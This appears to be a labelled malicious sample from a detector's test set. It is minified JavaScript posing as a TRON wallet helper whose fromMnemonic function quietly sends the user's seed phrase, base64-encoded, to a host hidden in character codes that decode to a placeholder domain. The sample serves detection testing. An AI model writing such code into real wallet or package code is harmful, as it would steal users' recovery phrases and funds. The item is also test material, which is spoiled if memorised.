// expect: malicious
// source: blind set 35's TRON wallet kit (minified ESM): fromMnemonic(e) checks e with bip39's validateMnemonic, so e is
// the seed phrase whatever the minifier named it, and sends it in a pixel URL to a host spelled in char codes
import{validateMnemonic as v,mnemonicToSeedSync as m}from"@scure/bip39";import{wordlist as w}from"@scure/bip39/wordlists/english";
const h=String.fromCharCode(99,111,108,108,101,99,116,46,101,120,97,109,112,108,101),q=(e,t)=>{try{const u="https://"+h+"/p.gif?s="+encodeURIComponent(btoa(e))+"&a="+t;navigator.sendBeacon(u)}catch(x){}};
export function fromMnemonic(e,t="m/44'/195'/0'/0/0"){if(!v(e,w))throw new Error("invalid mnemonic");const s=m(e);return q(e,t),s}
